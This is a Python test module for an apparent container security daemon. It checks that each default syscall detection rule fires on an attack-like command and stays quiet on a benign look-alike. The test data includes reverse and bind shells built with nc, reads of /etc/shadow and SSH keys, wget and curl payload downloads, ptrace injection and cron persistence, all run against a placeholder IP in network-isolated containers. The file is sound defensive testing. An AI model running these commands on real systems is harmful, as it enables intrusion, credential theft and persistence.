"""Each default syscall rule against real containers: the behaviour fires it, a look-alike not.

One in-process Daemon with the shipped rules (in-kernel syscall filtering as in production) for
the module. The scenarios the selected tests need run first, a few at a time; each test then reads
its container's findings from the daemon's API. A negative test also checks that the look-alike
really happened (its witness event was seen, or, for an open, connect or dup the kernel's
filters drop by design, the exec that made it), so it cannot pass by doing nothing.
"""

from __future__ import annotations

import subprocess
import urllib.request
import uuid
from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from cauditd.events import Event, ExecEvent
from cauditd.rules import default_rules_dir, load_ruleset
from cauditd.rules.prefilter import READ, WRITE
from tests.conftest import TEST_IMAGE
from tests.rules_e2e.lab import (
    Connected,
    DupOfFile,
    Lab,
    Opened,
    Ran,
    Scenario,
    Socketed,
    Witness,
    execd,
    file_op,
    running_lab,
    sh,
    syscall,
)

SYSCALL_RULES = sorted(r.name for r in load_ruleset([default_rules_dir()]).rules
                       if r.source == "syscall")  # fmt: skip

PRIV = ("--cap-add", "SYS_ADMIN", "--security-opt", "seccomp=unconfined")
PTRACE = ("--cap-add", "SYS_PTRACE")
MODULE = ("--cap-add", "SYS_MODULE", "--security-opt", "seccomp=unconfined")
# Docker's seccomp profile allows open_by_handle_at with CAP_DAC_READ_SEARCH, but wants
# CAP_SYS_ADMIN for name_to_handle_at (Shocker guessed its handles instead)
HANDLES = ("--cap-add", "DAC_READ_SEARCH", "--security-opt", "seccomp=unconfined")
HANDLE_FILE = "echo x > /dev/shm/f; /usr/bin/cauditd_evade "
OPENS = ("open", "openat", "openat2", "creat")
SYMLINKS = ("symlink", "symlinkat")
LINKS = ("link", "linkat")
CHMODS = ("chmod", "fchmod", "fchmodat", "fchmodat2")
RENAMES = ("rename", "renameat", "renameat2")
# A host on no network these containers have (they run with --network none): the connect
# syscall happens, no packet leaves.
NOWHERE = "10.99.0.1"
SLEEPER = ("sleep", "30")


@dataclass(frozen=True)
class Case:
    """A rule, a scenario that must fire it with output field `field` = `value`, and a
    look-alike scenario that must not fire it, whose `witness` event proves it happened."""

    rule: str
    positive: Scenario
    field: str
    value: str
    negative: Scenario
    witness: Witness
    label: str = ""
    xfail: str = ""  # why the positive is a known miss (strict: it must keep failing)


def asked(ev: ExecEvent) -> str:
    """The path an exec asked for (its exe is the file the kernel ran: /bin/busybox)."""
    return ev.filename or ev.exe


def exec_of(exe: str) -> Witness:
    return lambda ev: isinstance(ev, ExecEvent) and asked(ev) == exe


def exec_in(exe: str, cwd: str) -> Witness:
    return lambda ev: isinstance(ev, ExecEvent) and asked(ev) == exe and ev.cwd == cwd


def second_shell(ev: Event) -> bool:
    return (isinstance(ev, ExecEvent) and asked(ev) == "/bin/sh"
            and ev.argv == ("/bin/sh", "-c", "true"))  # fmt: skip


BIND_SHELL = ("/usr/bin/nc -l -p 4445 -e {prog} & /bin/sleep 0.5;"
              " echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
NETCAT_PLAIN = sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null")
PTRACE_ATTACH = Scenario(("cauditd_probe", "ptrace"), PTRACE)
SSH_KEY = (
    "mkdir -p /home/app/.ssh; echo k > /home/app/.ssh/id_rsa; echo p > /home/app/.ssh/id_rsa.pub"
)
SHM_EXEC = ("--tmpfs", "/dev/shm:rw,exec")  # Docker's own /dev/shm is noexec: exec would fail
UNCONFINED = ("--security-opt", "seccomp=unconfined")


def renamed(name: str, *args: str, options: tuple[str, ...] = ()) -> Scenario:
    """cauditd_falco copied to /tmp/NAME and run with ARGS: a process named NAME."""
    return sh(f"cp /usr/bin/cauditd_falco /tmp/{name} && /tmp/{name} {' '.join(args)}",
              options=options)


def at_start(command: str) -> Scenario:
    """COMMAND as the container's own first process (sh execs it in place), at once."""
    return Scenario(("sh", "-c", f"exec {command}"))


def after_start(command: str) -> Scenario:
    """COMMAND as the container's first process once the container is past its start-up
    (rules/common.toml container_starting: 10 s): an exploited application does this."""
    return Scenario(("sh", "-c", f"sleep 11; exec {command}"))


CURL_HEAD = renamed("curl", "-s", "-I", f"http://{NOWHERE}/")

CASES: list[Case] = [
    # files.toml
    Case("Read sensitive file untrusted",
         sh("/bin/cat /etc/shadow >/dev/null"), "fd.name", "/etc/shadow",
         sh("/bin/cat /etc/passwd >/dev/null"),
         Opened("/etc/passwd", READ, ("/bin/cat", "/etc/passwd")), "shadow"),
    Case("Read sensitive file untrusted",
         sh(f"{SSH_KEY}; /bin/cat /home/app/.ssh/id_rsa"), "fd.name", "/home/app/.ssh/id_rsa",
         sh(f"{SSH_KEY}; /bin/cat /home/app/.ssh/id_rsa.pub"),
         Opened("/home/app/.ssh/id_rsa.pub", READ, ("/bin/cat", "/home/app/.ssh/id_rsa.pub")),
         "ssh-key"),
    Case("Read sensitive file untrusted",
         after_start("/bin/cat /etc/shadow"), "fd.name", "/etc/shadow",
         at_start("/bin/cat /etc/shadow"),
         Opened("/etc/shadow", READ, ("/bin/cat", "/etc/shadow")), "entrypoint"),
    Case("Write below etc",
         after_start("/bin/cp /etc/passwd /etc/passwd.new"), "fd.name", "/etc/passwd.new",
         at_start("/bin/cp /etc/passwd /etc/passwd.new"),
         Opened("/etc/passwd.new", WRITE, ("/bin/cp", "/etc/passwd", "/etc/passwd.new")),
         "entrypoint"),
    Case("Write below etc",
         sh("/bin/cp /etc/passwd /etc/passwd.new"), "fd.name", "/etc/passwd.new",
         sh("/bin/cp /etc/passwd /tmp/passwd.new"),
         Opened("/tmp/passwd.new", WRITE, ("/bin/cp", "/etc/passwd", "/tmp/passwd.new")), "open"),
    Case("Write below etc",
         sh("echo x > /tmp/p; /bin/mv /tmp/p /etc/ld.so.preload"),
         "evt.arg.newpath", "/etc/ld.so.preload",
         sh("echo x > /tmp/p; /bin/mv /tmp/p /tmp/q"), file_op(RENAMES, "/tmp/p"), "rename"),
    Case("Write below binary dir",
         sh("/bin/cp /bin/busybox /usr/bin/cauditd-dropped"),
         "fd.name", "/usr/bin/cauditd-dropped",
         sh("/bin/cp /bin/busybox /tmp/cauditd-tool"),
         Opened("/tmp/cauditd-tool", WRITE, ("/bin/cp", "/bin/busybox", "/tmp/cauditd-tool"))),
    Case("Create files below dev",
         sh("echo x > /dev/cauditd-payload"), "fd.name", "/dev/cauditd-payload",
         sh("echo x > /dev/null; echo x > /dev/shm/cauditd-ok"),
         file_op(OPENS, "/dev/shm/cauditd-ok")),
    Case("Create symlink over sensitive files",
         sh("/bin/ln -s /etc/shadow /tmp/cauditd-link"), "evt.arg.target", "/etc/shadow",
         sh("/bin/ln -s /etc/passwd /tmp/cauditd-link"), file_op(SYMLINKS, "/etc/passwd")),
    Case("Create hardlink over sensitive files",
         sh("/bin/ln /etc/shadow /tmp/cauditd-hard"), "evt.arg.oldpath", "/etc/shadow",
         sh("/bin/ln /etc/passwd /tmp/cauditd-hard"), file_op(LINKS, "/etc/passwd")),
    Case("Clear log activities",
         sh("echo x >> /var/log/app.log; /bin/rm /var/log/app.log"),
         "fd.name", "/var/log/app.log",
         sh("echo x >> /var/log/app.log"), file_op(OPENS, "/var/log/app.log")),
    Case("Delete or truncate shell history",
         sh("echo ls >> /root/.ash_history; /bin/rm /root/.ash_history"),
         "fd.name", "/root/.ash_history",
         sh("echo ls >> /root/.ash_history"), file_op(OPENS, "/root/.ash_history")),
    Case("Cron configuration changed",
         sh("/bin/mkdir -p /etc/cron.d; echo '* * * * * root id' > /etc/cron.d/cauditd"),
         "fd.name", "/etc/cron.d/cauditd",
         sh("echo '* * * * * root id' > /tmp/crontab; /bin/cat /tmp/crontab"),
         Opened("/tmp/crontab", WRITE, ("/bin/cat", "/tmp/crontab"))),
    Case("Read environment variables from /proc",
         sh("/bin/cat /proc/1/environ >/dev/null"), "fd.name", "/proc/1/environ",
         sh("/bin/cat /proc/1/status >/dev/null"), file_op(OPENS, "/proc/1/status")),
    # network_syscalls.toml
    Case("Packet socket created in container",
         Scenario(("cauditd_attack", "packet")), "proc.cmdline", "cauditd_attack packet",
         Scenario(("cauditd_attack", "udp")), Socketed(2, 2, ("cauditd_attack", "udp"))),
    Case("Connection to mining pool port",
         Scenario(("cauditd_probe", "connect", NOWHERE, "3333")), "fd.dport", "3333",
         Scenario(("cauditd_probe", "connect", NOWHERE, "8080")),
         Connected(NOWHERE, 8080, ("cauditd_probe", "connect", NOWHERE, "8080"))),
    Case("Contact cloud metadata service from container",
         Scenario(("cauditd_probe", "connect", "169.254.169.254", "80")),
         "fd.dip", "169.254.169.254",
         Scenario(("cauditd_probe", "connect", NOWHERE, "80")),
         Connected(NOWHERE, 80, ("cauditd_probe", "connect", NOWHERE, "80"))),
    Case("Redirect stdio to network connection",
         Scenario(("cauditd_probe", "dupsock")), "fd.num", "2",
         Scenario(("cauditd_attack", "dupfile")),
         DupOfFile(1, ("cauditd_attack", "dupfile")), "file-on-stdout"),
    Case("Redirect stdio to network connection",
         Scenario(("cauditd_probe", "dupsock")), "fd.num", "2",
         Scenario(("cauditd_attack", "dupsock-high")),
         Socketed(2, 1, ("cauditd_attack", "dupsock-high")),  # dup2 onto fd>2: not emitted
         "socket-on-fd10"),
    Case("Reverse shell through pipes",
         sh(f"mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | /usr/bin/nc -w 1 {NOWHERE} 4445"
            " > /tmp/f"), "container.image", TEST_IMAGE,
         sh(f"/usr/bin/nc -w 1 {NOWHERE} 4445 </dev/null | /bin/sh; echo id | /bin/sh"),
         exec_of("/usr/bin/nc"), "fifo"),
    # a bind shell: nc dups the connection it accepted onto 0 and 1, then execs the shell (the
    # client is in the same container, over its own loopback; busybox nc listens on IPv6)
    Case("Shell started with a network socket on its stdio",
         sh(BIND_SHELL.format(prog="/bin/sh")), "proc.stdin.type", "ipv6",
         sh(BIND_SHELL.format(prog="/bin/cat")), exec_of("/bin/cat"), "bind-shell"),
    # privilege.toml
    Case("io_uring set up in container",
         Scenario(("cauditd_evade", "uring-setup")), "evt.arg.entries", "4",
         Scenario(("cauditd_evade", "read", "/etc/hostname")), execd("cauditd_evade", "read",
                                                                     "/etc/hostname")),
    # a tmpfs: Docker's overlay2 root gives no handles (no nfs_export)
    Case("Open file by handle in container",
         sh(HANDLE_FILE + "handle-open /dev/shm/f", options=HANDLES), "evt.type",
         "open_by_handle_at", sh(HANDLE_FILE + "handle-name /dev/shm/f", options=HANDLES),
         execd("/usr/bin/cauditd_evade", "handle-name", "/dev/shm/f")),
    Case("Set setuid or setgid bit",
         sh("/bin/touch /tmp/f; /bin/chmod u+s /tmp/f"), "fd.name", "/tmp/f",
         sh("/bin/touch /tmp/f; /bin/chmod 755 /tmp/f"), file_op(CHMODS, "/tmp/f")),
    Case("Namespace change in container",
         Scenario(("cauditd_probe", "unshare"), PRIV), "evt.type", "unshare",
         Scenario(SLEEPER, execs=(("/bin/true",),)), execd("/bin/true"), "unshare"),
    Case("Namespace change in container",
         Scenario(("cauditd_probe", "setns"), PRIV), "evt.arg.nstype", "CLONE_NEWUTS",
         Scenario(SLEEPER, execs=(("/bin/true",),)), execd("/bin/true"), "setns"),
    Case("Mount in container",
         sh("/bin/mount -t tmpfs cauditd-tmpfs /tmp", options=PRIV), "evt.arg.fstype", "tmpfs",
         sh("/bin/mount >/dev/null", options=PRIV), exec_of("/bin/mount")),
    Case("PTRACE attached to process",
         PTRACE_ATTACH, "evt.arg.request", "PTRACE_ATTACH",
         Scenario(("cauditd_attack", "traceme")), syscall("ptrace", request=0)),
    Case("PTRACE code injection",
         Scenario(("cauditd_attack", "poke"), PTRACE), "evt.arg.request", "PTRACE_POKEDATA",
         PTRACE_ATTACH, syscall("ptrace", request=16)),
    Case("Linux kernel module load",
         Scenario(("cauditd_attack", "module"), MODULE), "evt.type", "finit_module",
         sh("/sbin/lsmod >/dev/null", options=MODULE), exec_of("/sbin/lsmod")),
    # process.toml
    Case("Shell spawned by non-shell in container",
         Scenario(("cauditd_attack", "spawn", "/bin/sh", "-c", "true")),
         "proc.pname", "cauditd_attack",
         sh("/bin/sh -c true"), second_shell, "spawned"),
    Case("Shell spawned by non-shell in container",
         Scenario(SLEEPER, execs=(("sh", "-c", "true"),)), "proc.name", "sh",
         sh("/bin/sh -c true"), second_shell, "docker-exec"),
    Case("Fileless execution via memfd",
         Scenario(("cauditd_probe", "memfd")), "evt.arg.flags", "EXE_FROM_MEMFD",
         Scenario(("cauditd_attack", "memfd-noexec")), execd("/bin/true"), "in-place"),
    Case("Fileless execution via memfd",
         Scenario(("cauditd_attack", "memfd-exec")), "proc.pname", "cauditd_attack",
         Scenario(("cauditd_attack", "memfd-noexec")), execd("/bin/true"), "forked-child"),
    Case("Drop and execute new binary in container",
         sh("/bin/cp /bin/busybox /tmp/true && /tmp/true"), "proc.exepath", "/tmp/true",
         sh("/bin/true"), execd("/bin/true")),
    Case("Execution from /dev/shm",
         sh("/bin/cp /bin/busybox /dev/shm/true && /dev/shm/true", options=SHM_EXEC),
         "proc.exepath", "/dev/shm/true",
         sh("cd /dev/shm && /bin/true"), exec_in("/bin/true", "/dev/shm")),
    Case("Netcat remote code execution in container",
         sh(f"/usr/bin/nc -w 1 -e /bin/sh {NOWHERE} 4445"),
         "proc.cmdline", f"nc -w 1 -e /bin/sh {NOWHERE} 4445",
         NETCAT_PLAIN, exec_of("/usr/bin/nc")),
    Case("Package management process launched in container",
         sh("/usr/bin/dpkg -l >/dev/null"), "proc.cmdline", "dpkg -l",
         Scenario(("dpkg", "-l")), exec_of("/usr/bin/dpkg"), "entrypoint-is-fine"),
    Case("Remote file copy tool launched in container",
         sh(f"/usr/bin/tftp -g -r payload {NOWHERE}"),
         "proc.cmdline", f"tftp -g -r payload {NOWHERE}",
         sh("/bin/cp /etc/passwd /tmp/p"), exec_of("/bin/cp")),
    Case("Network tool launched in container",
         NETCAT_PLAIN, "proc.cmdline", f"nc -w 1 {NOWHERE} 4445",
         sh(f"/usr/bin/wget -q -T 1 -O /dev/null http://{NOWHERE}:4445/"),
         exec_of("/usr/bin/wget")),
    Case("Search for private keys or passwords",
         sh("/bin/grep -r 'BEGIN RSA PRIVATE' /etc"),
         "proc.cmdline", "grep -r BEGIN RSA PRIVATE /etc",
         sh("/bin/grep -r error /etc"), exec_of("/bin/grep"), "grep"),
    Case("Search for private keys or passwords",
         sh("/usr/bin/find /root /etc -name id_rsa"),
         "proc.cmdline", "find /root /etc -name id_rsa",
         sh("/usr/bin/find /root /etc -name '*.conf'"), exec_of("/usr/bin/find"), "find"),
    Case("Decoding base64 payload in container",
         sh("echo aGVsbG8= | /bin/base64 -d"), "proc.cmdline", "base64 -d",
         sh("echo hello | /bin/base64"), exec_of("/bin/base64")),
    Case("Cron job scheduled",
         sh("echo '* * * * * id' > /tmp/c; /usr/bin/crontab /tmp/c"),
         "proc.cmdline", "crontab /tmp/c",
         sh("/usr/bin/crontab -l"), exec_of("/usr/bin/crontab")),
    # activity.toml
    Case("Ingress tool download in container",
         sh(f"/usr/bin/wget -q -T 1 -O /tmp/p http://{NOWHERE}/p"),
         "proc.cmdline", f"wget -q -T 1 -O /tmp/p http://{NOWHERE}/p",
         CURL_HEAD, exec_of("/tmp/curl"), "wget"),
    Case("Ingress tool download in container",
         renamed("curl", "-sSLo", "/tmp/p", f"http://{NOWHERE}/p"),
         "proc.cmdline", f"curl -sSLo /tmp/p http://{NOWHERE}/p",
         CURL_HEAD, exec_of("/tmp/curl"), "curl"),
    Case("Directory created below binary dir",
         sh("/bin/mkdir /usr/bin/.cache"), "fd.name", "/usr/bin/.cache",
         sh("/bin/mkdir /tmp/.cache"), file_op(("mkdir", "mkdirat"), "/tmp/.cache")),
    Case("Bulk data destruction in container",
         sh("echo x > /tmp/f; /usr/bin/shred -u /tmp/f"), "proc.cmdline", "shred -u /tmp/f",
         sh("echo x > /tmp/f; /bin/rm /tmp/f"), exec_of("/bin/rm")),
    Case("PTRACE anti-debug attempt",
         Scenario(("cauditd_attack", "traceme")), "proc.cmdline", "cauditd_attack traceme",
         PTRACE_ATTACH, syscall("ptrace", request=16)),
    Case("SSH authorized keys modified",
         sh("mkdir -p /root/.ssh; echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys"),
         "fd.name", "/root/.ssh/authorized_keys",
         sh("mkdir -p /root/.ssh; /bin/cp /etc/hostname /root/.ssh/known_hosts"),
         Opened("/root/.ssh/known_hosts", WRITE,
                ("/bin/cp", "/etc/hostname", "/root/.ssh/known_hosts"))),
    Case("Shell configuration file modified in container",
         sh("echo 'wget -q http://x/p' >> /root/.profile"), "fd.name", "/root/.profile",
         sh("echo x > /tmp/profile; /bin/cat /tmp/profile"),
         Opened("/tmp/profile", READ, ("/bin/cat", "/tmp/profile"))),
    Case("Glibc tunables in environment",
         sh("GLIBC_TUNABLES=glibc.malloc.mxfast=1 /bin/sleep 1"), "proc.cmdline", "sleep 1",
         sh("GLIBC_FOO=1 /bin/sleep 1"), exec_of("/bin/sleep")),
    # past what the kernel walks for GLIBC_TUNABLES (test_evasions_e2e: padding it does walk)
    Case("Environment too large to inspect",
         sh("/usr/bin/cauditd_evade env-pad 20000 8 /bin/true"), "proc.cmdline", "true",
         sh("/usr/bin/cauditd_evade env-pad 3000 8 /bin/true"), exec_of("/bin/true")),
    Case("Crypto miner stratum command line",
         sh("/bin/true -o stratum+tcp://pool.example:3333"),
         "proc.cmdline", "true -o stratum+tcp://pool.example:3333",
         sh("/bin/true -o tcp://pool.example:3333"),
         execd("/bin/true", "-o", "tcp://pool.example:3333")),
    Case("Container client tool launched in container",
         renamed("kubectl", "get", "secrets"), "proc.cmdline", "kubectl get secrets",
         renamed("kubelint", "get", "secrets"), exec_of("/tmp/kubelint")),
    # escape.toml
    Case("eBPF program loaded in container",
         Scenario(("cauditd_falco", "bpf-prog"), PRIV), "evt.arg.cmd", "BPF_PROG_LOAD",
         Scenario(("cauditd_falco", "bpf-map"), PRIV), syscall("bpf", cmd=0)),
    Case("Unprivileged userfaultfd in container",
         sh("/usr/bin/cauditd_falco userfaultfd", options=("--user", "65534", *UNCONFINED)),
         "user.uid", "65534",
         Scenario(("cauditd_falco", "userfaultfd"), UNCONFINED), syscall("userfaultfd")),
    Case("Cgroup release_agent written in container",
         sh("echo /tmp/x > /tmp/release_agent", options=PRIV), "fd.name", "/tmp/release_agent",
         sh("echo /tmp/x > /tmp/release_agent; /bin/sleep 1"),  # alive: its capabilities known
         file_op(OPENS, "/tmp/release_agent")),
    Case("Raw disk or kernel memory opened in container",
         sh("/bin/cat /dev/sdz", options=("--device", "/dev/null:/dev/sdz")),
         "fd.name", "/dev/sdz",
         sh("/bin/cat /dev/null"), Opened("/dev/null", READ, ("/bin/cat", "/dev/null"))),
    Case("Process executable written through /proc",
         sh("echo x > /proc/self/exe"), "fd.name", "/proc/self/exe",
         sh("/bin/cat /proc/self/exe > /dev/null"),
         # the kernel opened the binary /proc/self/exe names (busybox), not a file below /proc
         Opened("/proc/self/exe", READ, ("/bin/cat", "/proc/self/exe"), "/bin/busybox")),
    Case("Container started with a sensitive host mount",
         Scenario(("true",), ("-v", "/etc:/hostetc:ro")), "proc.cmdline", "true",
         Scenario(("true",), ("-v", "/tmp:/data:ro")), execd("true")),
    Case("Container started with excessive capabilities",
         Scenario(("sleep", "1"), PRIV), "proc.cmdline", "sleep 1",
         Scenario(("sleep", "1")), execd("sleep", "1")),
    Case("Debugfs launched in container",
         renamed("debugfs", "spawn", "/bin/true"), "proc.cmdline", "debugfs spawn /bin/true",
         renamed("fsck", "spawn", "/bin/true"), exec_of("/tmp/fsck")),
]  # fmt: skip


def case_id(case: Case) -> str:
    words = case.rule.lower().replace("/", "").split()
    return "-".join(words[:5]) + (f"[{case.label}]" if case.label else "")


POSITIVES = [
    pytest.param(case, id=case_id(case),
                 marks=[pytest.mark.xfail(reason=case.xfail, strict=True)] if case.xfail else [])
    for case in CASES
]  # fmt: skip


ENTRYPOINT = sh(
    "cat /etc/passwd >/dev/null; /bin/cat /etc/passwd >/dev/null; /bin/ls / >/dev/null;"
    " echo x > /tmp/x; /bin/cp /tmp/x /tmp/y; /bin/mkdir -p /tmp/cache; /bin/rm /tmp/y;"
    " /bin/sleep 0; /bin/date >/dev/null"
)


def selected_scenarios(items: list[pytest.Item]) -> list[Scenario]:
    """The scenarios the selected tests of this module will read (run up front, in parallel)."""
    scenarios: list[Scenario] = []
    for item in items:
        if not isinstance(item, pytest.Function) or item.module.__name__ != __name__:
            continue
        callspec = getattr(item, "callspec", None)
        case = callspec.params.get("case") if callspec else None
        if isinstance(case, Case):
            scenarios.append(case.negative if "look_alike" in item.name else case.positive)
        elif item.name.startswith("test_ordinary_entrypoint"):
            scenarios.append(ENTRYPOINT)
    return scenarios


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[Lab]:
    scenarios = selected_scenarios(request.session.items)
    with running_lab(tmp_path_factory.mktemp("rules-e2e"), scenarios) as the_lab:
        yield the_lab


def test_every_default_syscall_rule_has_a_case() -> None:
    assert sorted({case.rule for case in CASES}) == SYSCALL_RULES


@pytest.mark.parametrize("case", POSITIVES)
def test_behaviour_fires_the_rule(lab: Lab, case: Case) -> None:
    ran = lab.ran(case.positive)
    found = lab.fired(ran, case.rule)
    values = [str(f["output_fields"].get(case.field)) for f in found]
    assert case.value in values, lab.explain(ran)


@pytest.mark.parametrize("case", CASES, ids=case_id)
def test_look_alike_does_not_fire_the_rule(lab: Lab, case: Case) -> None:
    lab.assert_quiet(lab.ran(case.negative), case.witness, case.rule)


def test_ordinary_entrypoint_stays_below_warning(lab: Lab) -> None:
    ran = lab.ran(ENTRYPOINT)
    assert lab.saw(ran, Opened("/tmp/x", WRITE, ("/bin/date",))), lab.explain(ran)
    assert lab.findings(ran, min_priority="warning") == [], lab.explain(ran)


@pytest.fixture
def bridge(docker: None) -> Iterator[str]:
    """A Docker bridge network created for the test (no iptables: nothing leaves the host)."""
    name = f"cauditd-t-net-{uuid.uuid4().hex[:8]}"
    subprocess.run(["docker", "network", "create", name], check=True, capture_output=True)
    try:
        yield name
    finally:
        subprocess.run(["docker", "network", "rm", name], capture_output=True)


def test_web_server_serving_stays_below_warning(lab: Lab, bridge: str) -> None:
    web = Scenario(("sh", "-c", "mkdir -p /tmp/www && echo hello > /tmp/www/index.html"
                    " && exec httpd -f -p 8080 -h /tmp/www"), network=bridge)  # fmt: skip
    name = f"cauditd-t-{uuid.uuid4().hex[:10]}"
    started = lab.containers.run(*web.command, name=name, detach=True,
                                 options=("--network", bridge))  # fmt: skip
    assert started.returncode == 0, started.stderr
    address = subprocess.run(
        ["docker", "inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}",
         name], capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    client = lab.ran(Scenario(("wget", "-q", "-O", "-", f"http://{address}:8080/"), network=bridge))
    assert client.stdout.strip() == "hello"
    with urllib.request.urlopen(f"http://{address}:8080/", timeout=10) as resp:  # host -> bridge
        assert resp.read().strip() == b"hello"
    subprocess.run(["docker", "kill", name], capture_output=True, check=True)
    served = Ran(name, lab.containers.inspect_id(name))
    lab.settle(served)
    lab.flush()
    for ran in (served, client):
        assert lab.findings(ran, min_priority="warning") == [], lab.explain(ran)
